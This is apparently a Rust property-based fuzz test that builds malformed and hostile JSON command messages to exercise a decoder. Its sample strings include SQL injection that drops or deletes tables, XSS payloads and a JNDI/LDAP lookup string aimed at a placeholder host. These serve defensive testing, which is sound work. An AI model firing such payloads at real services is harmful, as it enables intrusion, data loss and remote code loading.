//! Command messages as JSON text, shaped like the contract but with hostile values: strings
//! that look like SQL, HTML or templates, NUL and control characters, numbers serde_json
//! cannot hold, dates outside any calendar, deep nesting, missing, extra and mistyped fields.
//!
//! Values are built as raw JSON text, so that what no `serde_json::Value` can hold (`1e400`,
//! a lone surrogate escape, `NaN`) reaches the decoder too.

use domain::CommandType;
use proptest::prelude::*;
use serde_json::Value;
use uuid::Uuid;

use super::worlds::{member, milestone, project, task};

/// A JSON value as text.
pub type Raw = String;

fn quoted(text: &str) -> Raw {
    serde_json::to_string(text).expect("a string serializes")
}

/// Text a client might send to break something downstream.
fn hostile_text() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "'; DROP TABLE events; --",
        "Robert'); DELETE FROM command_results WHERE ('1'='1",
        "<script>alert(1)</script>",
        "</script><img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://x/a} %s%n%x",
        "\u{0}",
        "a\u{0}b",
        "\u{202e}gnp.exe",
        "\u{feff}\u{200b}",
        "\u{2028}\u{2029}",
        "😀👩‍👩‍👧",
        "é\\\"\n\t\r",
        " ",
        "",
        "NaN",
        "null",
    ])
    .prop_map(str::to_owned);
    prop_oneof![
        4 => fixed,
        2 => any::<String>(),
        1 => (prop::sample::select(vec![99usize, 201, 501, 2_001, 10_001]), any::<char>())
            .prop_map(|(n, c)| c.to_string().repeat(n)),
    ]
}

fn text() -> impl Strategy<Value = Raw> {
    prop_oneof![
        3 => "[A-Za-z][A-Za-z ]{0,20}".prop_map(|s| quoted(&s)),
        3 => hostile_text().prop_map(|s| quoted(&s)),
        1 => prop::sample::select(vec![r#""\ud800""#, r#""\u0000""#, r#""unterminated"#, r#""\x41""#, "\"\u{1}\""])
            .prop_map(str::to_owned),
    ]
}

fn number() -> impl Strategy<Value = Raw> {
    prop_oneof![
        2 => any::<f64>().prop_map(|f| serde_json::to_string(&f).expect("f64")),
        1 => any::<i64>().prop_map(|i| i.to_string()),
        1 => any::<u64>().prop_map(|u| u.to_string()),
        3 => prop::sample::select(vec![
            "0", "-0", "-0.0", "-1", "0.5", "4", "5", "2.5", "168", "168.0000001", "10000", "10000.5",
            "1e308", "-1e308", "1.7976931348623157e308", "5e-324", "1e400", "-1e400", "0.1e-400",
            "340282366920938463463374607431768211456", "NaN", "Infinity", "-Infinity", "1.", "01",
            "0x10", "+1", "1e", "\"8\"",
        ])
        .prop_map(str::to_owned),
    ]
}

fn date() -> impl Strategy<Value = Raw> {
    prop_oneof![
        4 => (2024..2028i32, 1..13u32, 1..29u32).prop_map(|(y, m, d)| quoted(&format!("{y:04}-{m:02}-{d:02}"))),
        3 => prop::sample::select(vec![
            "1969-12-31", "1970-01-01", "0000-01-01", "-0001-06-01", "9999-12-31", "+10000-01-01",
            "+262143-12-31", "2026-02-30", "2026-13-01", "2026-1-1", "tomorrow", "",
        ])
        .prop_map(quoted),
    ]
}

fn instant() -> impl Strategy<Value = Raw> {
    prop_oneof![
        4 => (1_700_000_000..1_800_000_000i64).prop_map(|s| {
            let at = chrono::DateTime::from_timestamp(s, 0).expect("in range");
            quoted(&at.to_rfc3339())
        }),
        3 => prop::sample::select(vec![
            "1969-12-31T23:59:59Z", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z",
            "+10000-01-01T00:00:00Z", "+262143-12-31T23:59:59Z", "-262143-01-01T00:00:00Z",
            "2026-03-02T09:00:00+14:00", "2026-03-02T09:00:00", "2026-03-02", "2026-03-02T25:00:00Z",
        ])
        .prop_map(quoted),
    ]
}

/// Any value at all: scalars, containers, and nesting deeper than any limit.
fn anything() -> impl Strategy<Value = Raw> {
    let leaf = prop_oneof![
        text(),
        number(),
        Just("null".to_owned()),
        Just("true".to_owned())
    ];
    let tree = leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4)
                .prop_map(|items| format!("[{}]", items.join(","))),
            prop::collection::vec(("[a-z_]{1,8}", inner), 0..4).prop_map(|fields| {
                let fields: Vec<String> = fields
                    .iter()
                    .map(|(k, v)| format!("{}:{v}", quoted(k)))
                    .collect();
                format!("{{{}}}", fields.join(","))
            }),
        ]
    });
    prop_oneof![
        6 => tree,
        1 => prop::sample::select(vec![15usize, 16, 17, 127, 128, 129, 5_000])
            .prop_map(|depth| format!("{}0{}", "[".repeat(depth), "]".repeat(depth))),
    ]
}

fn id_of(field: &str) -> BoxedStrategy<Raw> {
    let pooled: BoxedStrategy<Uuid> = match field {
        "task_id" | "depends_on" => task().prop_map(|t| t.0).boxed(),
        "project_id" => project().prop_map(|p| p.0).boxed(),
        "member_id" => member().prop_map(|m| m.0).boxed(),
        _ => milestone().prop_map(|m| m.0).boxed(),
    };
    prop_oneof![
        8 => pooled.prop_map(|id| quoted(&id.to_string())),
        1 => any::<u128>().prop_map(|n| quoted(&Uuid::from_u128(n).to_string())),
        1 => prop::sample::select(vec!["9A8B7C6D-5E4F-4A3B-8C2D-1E0F9A8B7C6D", "{9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d}", "nope", ""])
            .prop_map(quoted),
    ]
    .boxed()
}

fn list(item: BoxedStrategy<Raw>, huge: usize) -> BoxedStrategy<Raw> {
    prop_oneof![
        8 => prop::collection::vec(item.clone(), 0..5),
        1 => prop::collection::vec(item, huge..=huge),
    ]
    .prop_map(|items| format!("[{}]", items.join(",")))
    .boxed()
}

/// A value for `field`, whose well-formed example is `example`: mostly of the right kind
/// (so that decisions are reached), sometimes anything.
fn value_for(field: &str, example: &Value) -> BoxedStrategy<Raw> {
    let fitting: BoxedStrategy<Raw> = match (field, example) {
        ("depends_on", Value::Array(_)) => list(id_of("task_id"), 1_001),
        (_, Value::Array(_)) => list(text().boxed(), 51),
        (_, Value::Number(_)) => {
            let sensible = match field {
                "priority" => (0..6u8).prop_map(|p| p.to_string()).boxed(),
                "hours" => (0.0..12.0f64).prop_map(|h| h.to_string()).boxed(),
                _ => (0.0..80.0f64).prop_map(|h| h.to_string()).boxed(),
            };
            prop_oneof![3 => sensible, 2 => number()].boxed()
        }
        ("status", _) => prop_oneof![
            3 => prop::sample::select(vec!["active", "on_hold", "closed"]).prop_map(quoted),
            1 => text(),
        ]
        .boxed(),
        (_, Value::String(s)) if Uuid::parse_str(s).is_ok() => id_of(field),
        (_, Value::String(s)) if s.parse::<chrono::NaiveDate>().is_ok() => date().boxed(),
        (_, Value::String(s)) if s.parse::<chrono::DateTime<chrono::Utc>>().is_ok() => {
            instant().boxed()
        }
        _ => text().boxed(),
    };
    prop_oneof![12 => fitting, 1 => anything()].boxed()
}

/// An object from its fields; each field sometimes left out, sometimes one more appended.
fn object(fields: Vec<BoxedStrategy<Option<(String, Raw)>>>) -> impl Strategy<Value = Raw> {
    let extra = prop::option::weighted(
        0.05,
        ("[a-z_]{1,12}|<b>|a\\x00b|command_id|type", anything()),
    );
    (fields, extra).prop_map(|(fields, extra)| {
        let parts: Vec<String> = fields
            .into_iter()
            .flatten()
            .chain(extra)
            .map(|(key, value)| format!("{}:{value}", quoted(&key)))
            .collect();
        format!("{{{}}}", parts.join(","))
    })
}

fn field(
    name: &str,
    value: BoxedStrategy<Raw>,
    optional: bool,
) -> BoxedStrategy<Option<(String, Raw)>> {
    let name = name.to_owned();
    let present = if optional { 0.7 } else { 0.97 };
    prop::option::weighted(present, value.prop_map(move |v| (name.clone(), v))).boxed()
}

/// A payload for `kind`: every field of the contract's example, hostile at times.
fn payload(kind: CommandType) -> impl Strategy<Value = Raw> {
    let example = domain::command_example(kind)["payload"].clone();
    let fields = example
        .as_object()
        .expect("an example payload is an object")
        .iter()
        .map(|(name, value)| {
            let optional = matches!(
                name.as_str(),
                "description" | "milestone_id" | "due_date" | "deadline" | "role" | "reason"
            ) || (name == "member_id" && kind == CommandType::TaskLogWork);
            field(name, value_for(name, value), optional)
        })
        .collect();
    object(fields)
}

/// The subject's command type and the message body, for any command type.
pub fn message() -> impl Strategy<Value = (Option<String>, Raw)> {
    // One strategy per type, built once: building them per case would dominate the run.
    proptest::strategy::Union::new(CommandType::ALL.map(|kind| message_of(kind).boxed()))
}

fn message_of(kind: CommandType) -> impl Strategy<Value = (Option<String>, Raw)> {
    let name = kind.as_str();
    let subject = prop_oneof![
        20 => Just(Some(name.to_owned())),
        1 => Just(None),
        1 => prop::sample::select(CommandType::ALL.to_vec()).prop_map(|k| Some(k.as_str().to_owned())),
        1 => hostile_text().prop_map(|t| Some(format!("task.{t}"))),
    ];
    let uuid = || any::<u128>().prop_map(|n| quoted(&Uuid::from_u128(n).to_string()));
    let envelope = object(vec![
        field("command_id", uuid().boxed(), false),
        field(
            "type",
            prop_oneof![20 => Just(quoted(name)), 1 => text()].boxed(),
            false,
        ),
        field(
            "actor",
            prop_oneof![3 => Just(quoted("fuzz")), 1 => text()].boxed(),
            false,
        ),
        field("occurred_at", instant().boxed(), true),
        field(
            "expected_version",
            prop_oneof![(0..4i64).prop_map(|v| v.to_string()), number()].boxed(),
            true,
        ),
        field("correlation_id", prop_oneof![uuid(), text()].boxed(), true),
        field("payload", payload(kind).boxed(), false),
    ]);
    (subject, envelope)
}
